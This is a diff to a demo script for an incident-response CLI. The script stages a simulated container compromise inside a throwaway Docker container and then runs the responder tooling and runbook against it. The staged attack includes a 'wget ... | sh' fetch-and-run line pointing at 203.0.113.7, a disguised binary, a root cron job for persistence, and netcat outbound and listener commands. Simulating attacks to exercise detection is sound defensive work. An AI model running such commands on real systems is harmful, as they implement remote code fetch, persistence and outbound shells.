@@ -2,18 +2,20 @@
 // container-compromise runbook, the CLI a responder would type, and the reports at the end.
 // Run through scripts/demo.sh (npm run demo), which provides DOCKER_HOST.
 import { spawn, spawnSync } from 'node:child_process';
-import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { join, resolve } from 'node:path';
 import { setTimeout as delay } from 'node:timers/promises';
 import { fileURLToPath } from 'node:url';
 import Docker from 'dockerode';
+import { parseDocument, YAMLSeq } from 'yaml';
 import { clientForUrl } from '../src/docker/hosts.js';
 
 const ROOT = resolve(fileURLToPath(new URL('..', import.meta.url)));
-const OUT = join(ROOT, 'demo-output');
+const OUT = resolve(process.env.IRCTL_DEMO_OUT ?? join(ROOT, 'demo-output'));
 const HOME = join(OUT, 'state');
 const EVIDENCE = join(OUT, 'evidence');
+const RUNBOOKS = join(OUT, 'runbooks');
 const IMAGE = process.env.IRCTL_TEST_IMAGE ?? 'irctl-test/busybox:1';
 const DEMO_LABEL = 'irctl.demo';
 const WEB = 'demo-web';
@@ -25,7 +27,7 @@ const docker = (): Docker => clientForUrl(process.env.DOCKER_HOST ?? 'unix:///va
 
 /** Run the real CLI as a responder would, showing its output; returns its exit code and stdout. */
 function irctl(args: string[], options: { as?: string; quiet?: boolean; expect?: number[] } = {}): { code: number; stdout: string } {
-  const argv = [join(ROOT, 'bin/irctl.js'), '--home', HOME, '--evidence-dir', EVIDENCE, '--runbooks', join(ROOT, 'runbooks'), ...(options.as ? ['--as', options.as] : []), ...args];
+  const argv = [join(ROOT, 'bin/irctl.js'), '--home', HOME, '--evidence-dir', EVIDENCE, '--runbooks', RUNBOOKS, ...(options.as ? ['--as', options.as] : []), ...args];
   if (!options.quiet) process.stdout.write(`\x1b[2m$ irctl ${options.as ? `--as ${options.as} ` : ''}${args.join(' ')}\x1b[0m\n`);
   const result = spawnSync(process.execPath, argv, { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
   if (!options.quiet) process.stdout.write(result.stdout + result.stderr);
@@ -43,6 +45,25 @@ async function freePort(): Promise<number> {
     });
     server.on('error', reject);
   });
+}
+
+/**
+ * The shipped container-compromise runbook, with three demo settings so it ends in about a minute:
+ * a Falco trigger, a 10 s recurrence watch instead of 15 min, and a two-person recovery approval.
+ */
+function demoRunbook(): string {
+  const doc = parseDocument(readFileSync(join(ROOT, 'runbooks/container-compromise.yaml'), 'utf8'));
+  (doc.getIn(['triggers']) as YAMLSeq).add(
+    doc.createNode({ source: 'falco', rule: 'Drop and execute new binary in container', priority: '>= warning', inputs: { container: "${{ alert.output_fields['container.id'] }}" } }),
+  );
+  doc.setIn(['inputs', 'watch_for', 'default'], '10s');
+  const steps = doc.getIn(['steps']) as YAMLSeq;
+  const gate = steps.items.findIndex((item) => doc.getIn(['steps', steps.items.indexOf(item), 'id']) === 'approve-recovery');
+  doc.setIn(['steps', gate, 'approval', 'quorum'], 2);
+  mkdirSync(RUNBOOKS, { recursive: true });
+  const file = join(RUNBOOKS, 'container-compromise.yaml');
+  writeFileSync(file, `# demo copy of runbooks/container-compromise.yaml: Falco trigger, watch_for 10s, recovery quorum 2\n${doc.toString()}`);
+  return file;
 }
 
 async function cleanUp(engine: Docker): Promise<void> {
@@ -72,11 +93,13 @@ async function startWebService(engine: Docker): Promise<Docker.Container> {
 
 /** What an attacker does: a shell, a dropped binary and cron job, an outbound connection attempt. */
 async function compromise(web: Docker.Container): Promise<void> {
+  // Lines written to /proc/1/fd/1 land in the container's own log, as the web server's would.
   const script = [
-    'echo "GET /admin.php attack probe from 203.0.113.7" >&2',
+    `echo '203.0.113.7 - - "GET /cgi-bin/status?cmd=wget%20http://203.0.113.7/k%20-O-|sh HTTP/1.1" 200' > /proc/1/fd/1`,
+    `echo 'exec: wget http://203.0.113.7/k -O- | sh' > /proc/1/fd/1`,
     'mkdir -p /tmp/.x && printf "#!/bin/sh\\nwhile :; do :; done\\n" > /tmp/.x/kworkerd && chmod +x /tmp/.x/kworkerd',
     'mkdir -p /etc/cron.d && echo "* * * * * root /tmp/.x/kworkerd" > /etc/cron.d/sync',
-    '(nc -w 1 203.0.113.7 4444 </dev/null || echo "connect to 203.0.113.7:4444 failed" >&2)',
+    `(nc -w 1 203.0.113.7 4444 </dev/null || echo 'outbound connect to 203.0.113.7:4444 failed' > /proc/1/fd/2)`,
     'nc -l -p 4444 >/dev/null 2>&1 &',
   ].join('; ');
   const exec = await web.exec({ Cmd: ['sh', '-c', script], AttachStdout: true, AttachStderr: true });
@@ -95,8 +118,11 @@ async function main(): Promise<void> {
   mkdirSync(HOME, { recursive: true });
   writeFileSync(
     join(HOME, 'roles.yaml'),
-    `actors:\n  oncall-alice: operator\n  ${ADMINS.map((a) => `${a}: admin`).join('\n  ')}\n  falcosidekick: operator\n`,
+    `actors:\n  oncall-alice: operator\n  ${ADMINS.map((a) => `${a}: admin`).join('\n  ')}\n  falcosidekick: operator\n  irctl-service: admin\n`,
   );
+
+  say('runbook: the shipped container-compromise, with a Falco trigger, a 10 s watch and a quorum of 2');
+  irctl(['runbook', 'validate', demoRunbook()]);
 
   say(`starting the "web" service (${IMAGE}) on network ${NETWORK}`);
   const web = await startWebService(engine);
@@ -106,7 +132,7 @@ async function main(): Promise<void> {
   const key = irctl(['keys', 'create', '--actor', 'falcosidekick', '--json'], { as: ADMINS[0], quiet: true });
   const apiKey = (JSON.parse(key.stdout) as { key: string }).key;
   const port = await freePort();
-  const server = spawn(process.execPath, [join(ROOT, 'bin/irctl.js'), '--home', HOME, '--evidence-dir', EVIDENCE, '--runbooks', join(ROOT, 'runbooks'), 'serve', '--port', String(port)], {
+  const server = spawn(process.execPath, [join(ROOT, 'bin/irctl.js'), '--home', HOME, '--evidence-dir', EVIDENCE, '--runbooks', RUNBOOKS, '--as', 'irctl-service', 'serve', '--port', String(port)], {
     env: { ...process.env, NO_COLOR: '1' },
     stdio: ['ignore', 'inherit', 'inherit'],
   });
@@ -114,6 +140,7 @@ async function main(): Promise<void> {
   try {
     for (let i = 0; ; i++) {
       if ((await fetch(`${base}/healthz`).catch(() => undefined))?.ok) break;
+      if (server.exitCode !== null) throw new Error(`irctl serve exited with code ${server.exitCode}`);
       if (i > 100) throw new Error('irctl serve did not come up');
       await delay(100);
     }
